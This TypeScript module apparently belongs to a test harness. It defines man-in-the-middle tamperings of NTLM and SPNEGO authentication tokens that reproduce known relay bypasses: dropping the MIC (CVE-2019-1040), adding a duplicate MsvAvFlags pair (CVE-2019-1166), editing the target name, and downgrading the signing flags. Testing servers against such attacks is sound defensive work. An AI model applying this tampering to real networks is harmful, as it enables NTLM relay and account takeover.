import { TAG } from '../codec/asn1/index.js';
import {
  type AuthenticateMessage,
  AV_FLAGS,
  AV_ID,
  type AvPair,
  avFlags,
  avPair,
  type ChallengeMessage,
  decodeAvPairs,
  decodeNtlmMessage,
  decodeNtlmV2Response,
  encodeAvPairs,
  encodeNtlmMessage,
  encodeNtlmV2Response,
  isNtlm,
  MIC_OFFSET,
  type NegotiateFlag,
  type NegotiateMessage,
  type NtlmMessage,
  negotiateFlags,
  type PayloadItem,
} from '../codec/ntlm/index.js';
import { decodeNegToken, encodeNegToken, type NegToken } from '../codec/spnego/index.js';
import { type ApReqChange, changeApReq, type ServiceOfTarget } from './tamper-ap-req.js';

/** What the attacker changes in the messages that pass; each message without a function passes as it came. */
export interface Tampering {
  readonly negotiate?: (message: NegotiateMessage) => NegotiateMessage;
  readonly challenge?: (message: ChallengeMessage) => ChallengeMessage;
  readonly authenticate?: (message: AuthenticateMessage) => AuthenticateMessage;
  readonly apReq?: ApReqChange;
}

/** A token as it goes on: the message in it changed, the SPNEGO around it as it was. */
export function tampered(
  token: Uint8Array,
  tampering: Tampering | undefined,
  target: ServiceOfTarget = '',
): Uint8Array {
  if (tampering === undefined) return token;
  if (tampering.apReq !== undefined) return withApReq(token, tampering.apReq, target);
  if (isNtlm(token)) return changeMessage(token, tampering);
  const { octets: _, ...outer }: NegToken = decodeNegToken(token);
  if (outer.kind === 'NegTokenInit') {
    if (outer.mechToken === undefined) return token;
    return encodeNegToken({ ...outer, mechToken: changeMessage(outer.mechToken, tampering) });
  }
  if (outer.responseToken === undefined) return token;
  return encodeNegToken({ ...outer, responseToken: changeMessage(outer.responseToken, tampering) });
}

function withApReq(token: Uint8Array, change: ApReqChange, target: ServiceOfTarget): Uint8Array {
  // Anything else but SPNEGO's first token is an AP-REP, or the SPNEGO around one.
  if (token[0] !== TAG.APPLICATION_0) return changeApReq(token, change, target);
  const { octets: _, ...outer } = decodeNegToken(token);
  if (outer.kind !== 'NegTokenInit' || outer.mechToken === undefined) return token;
  return encodeNegToken({ ...outer, mechToken: changeApReq(outer.mechToken, change, target) });
}

function changeMessage(token: Uint8Array, { negotiate, challenge, authenticate }: Tampering): Uint8Array {
  const message: NtlmMessage = decodeNtlmMessage(token);
  if (message.MessageType === 1 && negotiate) return encodeNtlmMessage(negotiate(message));
  if (message.MessageType === 2 && challenge) return encodeNtlmMessage(challenge(message));
  if (message.MessageType === 3 && authenticate) return encodeNtlmMessage(authenticate(message));
  return token;
}

/** The same values without their places, so that they are laid out anew. */
function relaid<M extends NtlmMessage>(message: M): M {
  const { gaps: _, headerLength: __, ...fields } = message;
  const entries = Object.entries(fields).map(([name, value]) => [name, isItem(value) ? { bytes: value.bytes } : value]);
  return Object.fromEntries(entries) as M;
}

const isItem = (value: unknown): value is PayloadItem =>
  typeof value === 'object' && value !== null && 'bytes' in value && 'maxLength' in value;

/** CVE-2019-1040: the AUTHENTICATE_MESSAGE without room for a MIC, though MsvAvFlags announces one. */
const withoutMic = (message: AuthenticateMessage): AuthenticateMessage => {
  const { MIC: _, ...rest } = relaid(message);
  return { ...rest, headerLength: MIC_OFFSET };
};

/** Changes the AV pairs of an NTLMv2 response, and leaves NTProofStr, which is over them, as it was: [MS-NLMP] 3.3.2. */
const withPairs =
  (change: (pairs: readonly AvPair[]) => AvPair[]) =>
  (message: AuthenticateMessage): AuthenticateMessage => {
    const response = decodeNtlmV2Response(message.NtChallengeResponse?.bytes ?? new Uint8Array(0));
    const { ClientChallenge } = response;
    const AvPairs = { ...ClientChallenge.AvPairs, pairs: change(ClientChallenge.AvPairs.pairs) };
    const bytes = encodeNtlmV2Response({ ...response, ClientChallenge: { ...ClientChallenge, AvPairs } });
    return { ...relaid(message), NtChallengeResponse: { bytes } };
  };

const replaced = (pairs: readonly AvPair[], pair: AvPair): AvPair[] =>
  pairs.map((each) => (each.AvId === pair.AvId ? pair : each));

/** The bit of MsvAvFlags that announces a MIC, cleared. */
function withoutMicBit(pairs: readonly AvPair[]): AvPair[] {
  const value = Buffer.alloc(4);
  value.writeUInt32LE((avFlags(pairs) & ~AV_FLAGS.MIC_PRESENT) >>> 0);
  return replaced(pairs, avPair('MsvAvFlags', value));
}

const withoutFlags =
  (...flags: readonly NegotiateFlag[]) =>
  <M extends NegotiateMessage | ChallengeMessage>(message: M): M => ({
    ...message,
    NegotiateFlags: (message.NegotiateFlags & ~negotiateFlags(...flags)) >>> 0,
  });

/**
 * [MS-NLMP] 3.1.5.1.2: a client adds a MIC for servers whose CHALLENGE_MESSAGE has MsvAvTimestamp; this one loses it.
 * By the text nothing tells the server that its own message was changed; whether Windows has more checks no source says.
 */
const withoutTime = (message: ChallengeMessage): ChallengeMessage => {
  const info = decodeAvPairs(message.TargetInfo?.bytes ?? new Uint8Array(0));
  const pairs = info.pairs.filter(({ AvId }) => AvId !== AV_ID.MsvAvTimestamp);
  return { ...relaid(message), TargetInfo: { bytes: encodeAvPairs({ ...info, pairs }) } };
};

const SESSION_SECURITY = ['NTLMSSP_NEGOTIATE_SIGN', 'NTLMSSP_NEGOTIATE_KEY_EXCH'] as const;

/**
 * CVE-2019-1166: MsvAvFlags without a bit among the server's pairs. A client that keeps it puts its own behind it, and a
 * server that looks only at the first sees no MIC announced.
 */
const withFlags = (message: ChallengeMessage): ChallengeMessage => {
  const info = decodeAvPairs(message.TargetInfo?.bytes ?? new Uint8Array(0));
  const end = info.pairs.findIndex(({ AvId }) => AvId === AV_ID.MsvAvEOL);
  const pairs = info.pairs.toSpliced(end < 0 ? info.pairs.length : end, 0, avPair('MsvAvFlags', Buffer.alloc(4)));
  return { ...relaid(message), TargetInfo: { bytes: encodeAvPairs({ ...info, pairs }) } };
};

/** Tamperings with NTLM, by what they do. */
export const TAMPERINGS = {
  micDropped: { authenticate: withoutMic },
  micDisowned: { authenticate: (message) => withoutMic(withPairs(withoutMicBit)(message)) },
  flagsDoubled: { challenge: withFlags, authenticate: withoutMic },
  targetNameEdited: {
    authenticate: withPairs((pairs) => replaced(pairs, avPair('MsvAvTargetName', 'RPCSS/harness'))),
  },
  flagsDowngraded: { negotiate: withoutFlags(...SESSION_SECURITY) },
  timeRemoved: { challenge: withoutTime },
  timeRemovedAndFlagsDowngraded: { challenge: withoutTime, negotiate: withoutFlags(...SESSION_SECURITY) },
} as const satisfies Record<string, Tampering>;
